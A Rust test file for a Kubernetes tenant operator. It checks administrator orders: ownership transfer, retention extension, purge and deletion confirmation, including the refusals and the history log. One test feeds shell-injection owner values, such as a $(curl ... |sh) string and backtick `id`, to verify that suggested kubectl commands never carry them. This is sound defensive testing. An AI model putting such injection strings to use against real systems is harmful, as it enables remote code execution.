//! Administrators' orders: what each does, when it is refused, and what the history says.

use serde_json::{Value, json};
use smol_str::SmolStr;

use super::{
    mishaps::settled,
    removal::{DAY, deleted, expired, mallory},
    rotating,
    world::World,
};
use crate::{
    api::{
        labels,
        record::{HistoryEvent, RecordPhase},
    },
    tenant::{child::Child, orders::confirmation},
};

/// The last thing that the history says.
fn said(world: &World) -> (HistoryEvent, String) {
    let record = world.record_spec();
    let entry = record.history.last().expect("a history");
    let orders = &world.record.as_ref().expect("a record")["metadata"]["annotations"];
    assert_eq!(*orders, json!({}), "the order is taken off");
    (entry.event, entry.message.clone())
}

fn ordered(world: &mut World, key: &str, value: &str) -> (HistoryEvent, String) {
    world.order(key, value);
    world.settle();
    said(world)
}

#[track_caller]
fn assert_refused(world: &mut World, key: &str, value: &str, why: &str) {
    let before = world.record_spec();
    let (event, message) = ordered(world, key, value);
    assert_eq!(event, HistoryEvent::Refused, "{message}");
    assert!(message.contains(why), "{message}");
    let mut after = world.record_spec();
    after.history = before.history.clone();
    assert_eq!(after, before, "nothing else has changed");
}

#[test]
fn a_transfer_changes_the_owner_everywhere_and_is_never_disputed() {
    let mut world = rotating::settled();
    let former = world.record_spec();
    world.order(labels::TRANSFER_TO, "mallory");
    world.round();
    let marked =
        world.child(Child::Namespace).expect("namespace")["metadata"]["annotations"][labels::OWNER_HASH].clone();
    assert_ne!(marked, *former.owner.hash.as_str(), "the namespace says so first");
    world.round();
    assert_eq!(said(&world).0, HistoryEvent::Transferred);
    // The former owner's Tenant may do nothing with it any more, not even end it.
    world.settle();
    assert_eq!(world.ready(), (false, "NameReserved".into()));
    world.done.clear();
    world.delete_tenant();
    world.settle();
    assert!(world.tenant.is_none());
    assert_eq!(world.pods.len(), 1, "it runs on");
    world.make_tenant(&mallory());
    for _ in 0..8 {
        world.round();
        super::controllers::run(&mut world);
        let told = world.ready();
        assert!(told.1 != "RecordDisputed" && told.1 != "NameReserved", "{told:?}");
    }
    world.settle();
    assert_eq!(world.ready(), (true, "Verified".into()));
    let record = world.record_spec();
    assert_eq!((&record.incarnation, &record.storage), (&former.incarnation, &former.storage));
    let hash = record.owner.hash.to_string();
    assert_ne!(hash, former.owner.hash.to_string());
    let namespace = world.child(Child::Namespace).expect("namespace");
    assert_eq!(namespace["metadata"]["annotations"][labels::OWNER_HASH], *hash);
    assert_eq!(world.cloud.associations[0].tags[&SmolStr::new_static(labels::tags::OWNER_HASH)], hash);
    assert!(world.cloud.secrets.values().all(|one| one.tags[&SmolStr::new_static(labels::tags::OWNER_HASH)] == hash));
    assert_eq!(record.history[0].former_owner, Some(former.owner.hash));
}

#[test]
fn a_retained_tenant_is_handed_over_as_well() {
    let mut world = rotating::settled();
    world.delete_tenant();
    world.settle();
    let incarnation = world.record_spec().incarnation;
    assert_eq!(ordered(&mut world, labels::TRANSFER_TO, "mallory").0, HistoryEvent::Transferred);
    world.make_tenant(&super::fixtures::spec_json());
    world.settle();
    assert_eq!(world.ready(), (false, "NameReserved".into()));
    world.delete_tenant();
    world.settle();
    world.make_tenant(&mallory());
    world.settle();
    assert_eq!((world.ready(), world.record_spec().incarnation), ((true, "Verified".into()), incarnation));
}

/// What another owner's Tenant of a kept name is told.
fn told_to(owner: &Value) -> String {
    let mut world = deleted("Retain");
    world.make_tenant(&json!({ "owner": owner }));
    world.settle();
    assert_eq!(world.ready(), (false, "NameReserved".into()));
    let status = world.status().expect("a status is told");
    let ready = status.condition("Ready").expect("Ready is told");
    ready.message.clone()
}

/// Whoever signs up chooses the text, and an administrator pastes the command.
#[test]
fn what_a_shell_would_read_as_its_own_is_in_no_command() {
    for plain in ["mallory@example.com", "auth0|5f7c8ec7-c33c", "eu-west-1:b3_d.4+x"] {
        let message = told_to(&json!({ "subject": plain, "email": "m@example.com" }));
        let command = format!("kubectl annotate tenantrecord alice openclaw.io/transfer-to='{plain}'");
        assert!(message.contains(&command), "{message}");
    }
    for hostile in
        ["a'$(curl${IFS}x.sh|sh)'@x.co", "a`id`@x.co", "a\"b@x.co", "a;b@x.co", "a\\b@x.co", "m\u{fc}ller@x.co"]
    {
        for owner in [json!({ "email": hostile }), json!({ "subject": hostile, "email": "m@example.com" })] {
            let message = told_to(&owner);
            assert!(!message.contains(hostile) && !message.contains("transfer-to="), "{message}");
            assert!(message.contains("kubectl edit tenantrecord alice"), "says what to do: {message}");
            assert!(message.contains("openclaw.io/purge-now="), "{message}");
        }
    }
}

#[test]
fn what_cannot_be_transferred_says_why() {
    assert_refused(&mut settled(), labels::TRANSFER_TO, "6f1c", "that owner's already");
    assert_refused(&mut settled(), labels::TRANSFER_TO, "", "refused");
    assert_refused(&mut deleted("Delete"), labels::TRANSFER_TO, "mallory", "set that to Retain first");
}

#[test]
fn keep_until_puts_the_end_off_and_takes_what_is_due_back() {
    let mut world = deleted("Retain");
    assert_eq!(ordered(&mut world, labels::KEEP_UNTIL, "2030-01-31T00:00:00Z").0, HistoryEvent::Ordered);
    let namespace = world.child(Child::Namespace).expect("namespace");
    assert_eq!(namespace["metadata"]["annotations"][labels::PURGE_AFTER], "2030-01-31T00:00:00Z");
    world.pass(60 * DAY);
    assert_eq!(world.phase(), RecordPhase::Retained);

    let mut due = expired();
    assert_eq!(ordered(&mut due, labels::KEEP_UNTIL, "2030-01-31T00:00:00Z").0, HistoryEvent::Ordered);
    due.pass(60 * DAY);
    assert_eq!(due.phase(), RecordPhase::Retained);
}

#[test]
fn keep_until_shortens_nobody_s_time_and_is_about_retained_ones_only() {
    assert_refused(&mut deleted("Retain"), labels::KEEP_UNTIL, "2026-01-10T00:00:00Z", "already");
    assert_refused(&mut deleted("Retain"), labels::KEEP_UNTIL, "2020-01-10T00:00:00Z", "past");
    assert_refused(&mut deleted("Retain"), labels::KEEP_UNTIL, "tomorrow", "no time");
    assert_refused(&mut settled(), labels::KEEP_UNTIL, "2030-01-31T00:00:00Z", "nothing is retained");
}

#[test]
fn purge_now_ends_retention_after_the_settling_time() {
    let mut world = deleted("Retain");
    let incarnation = world.record_spec().incarnation.to_string();
    assert_refused(&mut world, labels::PURGE_NOW, "0123456789", &incarnation);
    assert_eq!(ordered(&mut world, labels::PURGE_NOW, &incarnation).0, HistoryEvent::Ordered);
    assert_eq!(world.phase(), RecordPhase::Retained, "it settles");
    world.pass(61);
    assert_eq!(world.phase(), RecordPhase::Purged);
    assert!(world.volumes.is_empty());
    assert_refused(&mut world, labels::PURGE_NOW, &incarnation, "removed");
    let mut living = settled();
    let incarnation = living.record_spec().incarnation.to_string();
    assert_refused(&mut living, labels::PURGE_NOW, &incarnation, "access has not ended");
}

#[test]
fn a_confirmation_is_for_one_removal_and_not_for_the_next() {
    let mut world = settled();
    let incarnation = world.record_spec().incarnation.to_string();
    assert_refused(&mut world, labels::CONFIRM_DELETION, &incarnation, "nothing of it is being removed");
    world.edit_tenant(|spec| spec["deletionPolicy"] = json!("Delete"));
    world.settle();
    world.delete_tenant();
    world.settle();
    assert_eq!(ordered(&mut world, labels::CONFIRM_DELETION, &incarnation).0, HistoryEvent::Ordered);
    deleted_again_with_many_others(&mut world);
    world.pass(600);
    assert_eq!(world.ready(), (false, "DeletionHeld".into()));
}

/// The removal is taken back, and an hour later the Tenant is deleted again, together with many others.
fn deleted_again_with_many_others(world: &mut World) {
    world.edit_tenant(|spec| spec["deletionPolicy"] = json!("Retain"));
    world.settle();
    world.make_tenant(&super::fixtures::spec_json());
    world.edit_tenant(|spec| spec["deletionPolicy"] = json!("Delete"));
    world.pass(3600);
    world.delete_others(20);
    world.delete_tenant();
}

/// What waits behind a stopped operator is about the removal that was looked at, and not about a later one.
#[test]
fn a_confirmation_that_names_a_beginning_is_for_that_removal_alone() {
    let mut world = deleted("Delete");
    let incarnation = world.record_spec().incarnation;
    let begun = |world: &World| -> jiff::Timestamp {
        let tenant = world.tenant.as_ref().expect("a Tenant that goes");
        tenant["metadata"]["deletionTimestamp"].as_str().and_then(|at| at.parse().ok()).expect("a time")
    };
    let seen = begun(&world);
    let value = confirmation(&incarnation, seen);
    assert_eq!(value, format!("{incarnation}@{}", jiff::Timestamp::from_second(seen.as_second()).expect("a time")));
    deleted_again_with_many_others(&mut world);
    world.settle();
    assert_refused(&mut world, labels::CONFIRM_DELETION, &value, "look at it again");
    assert_refused(&mut world, labels::CONFIRM_DELETION, &format!("{incarnation}@yesterday"), "no time");
    assert_refused(&mut world, labels::CONFIRM_DELETION, &format!("0123456789@{seen}"), incarnation.as_str());
    world.pass(600);
    assert_eq!(world.ready(), (false, "DeletionHeld".into()));
    let value = confirmation(&incarnation, begun(&world));
    assert_eq!(ordered(&mut world, labels::CONFIRM_DELETION, &value).0, HistoryEvent::Ordered);
    world.pass(61);
    assert_eq!(world.phase(), RecordPhase::Purged);
}

/// A paused tenant's orders wait, and its status says so.
#[test]
fn an_order_for_a_paused_tenant_waits_and_is_told() {
    let mut world = settled();
    world.annotate_tenant(labels::PAUSED, "true");
    world.settle();
    assert_eq!(world.ready(), (true, "Paused".into()));
    world.order(labels::TRANSFER_TO, "mallory");
    world.settle();
    let status = world.status().expect("a status is told");
    let ready = status.condition("Ready").expect("Ready is told");
    assert_eq!((ready.status.as_str(), ready.reason.as_str()), ("False", "Paused"));
    assert!(ready.message.contains("order openclaw.io/transfer-to waits"), "{}", ready.message);
    assert_eq!(world.record_spec().history, Vec::new(), "it waits");
    world.annotate_tenant(labels::PAUSED, "false");
    world.settle();
    assert_eq!(said(&world).0, HistoryEvent::Transferred);
}

/// A confirmation behind a pause is not forgotten either.
#[test]
fn a_confirmation_for_a_paused_tenant_that_is_deleted_waits_and_is_told() {
    let mut world = deleted("Delete");
    let incarnation = world.record_spec().incarnation.to_string();
    world.annotate_tenant(labels::PAUSED, "true");
    world.order(labels::CONFIRM_DELETION, &incarnation);
    world.settle();
    let status = world.status().expect("a status is told");
    let ready = status.condition("Ready").expect("Ready is told");
    assert!(ready.message.contains("order openclaw.io/confirm-deletion waits"), "{}", ready.message);
}
